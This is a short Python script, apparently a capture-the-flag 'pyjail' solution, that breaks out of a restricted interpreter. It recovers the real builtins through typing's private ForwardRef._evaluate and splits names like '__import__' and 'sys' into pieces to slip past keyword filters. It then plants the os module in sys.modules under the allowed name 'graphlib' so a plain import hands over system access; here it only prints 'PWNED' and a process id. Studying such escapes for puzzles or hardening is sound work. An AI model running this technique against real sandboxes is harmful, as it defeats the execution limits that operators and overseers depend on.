# misc: put a fake module into sys.modules under an allowed name, then import it
import typing
M = "PWN" + "ED"
box = {}
typing.get_args(typing.List["int"])[0]._evaluate(box, None, frozenset())
rb = box["__buil" + "tins__"]  # typing's builtins dict: the real one
ga = rb["getattr"]

import random
s = rb["__imp" + "ort__"]("sy" + "s")
s.modules["graphlib"] = ga(random, "_o" + "s")
import graphlib
print(M, graphlib.getpid())
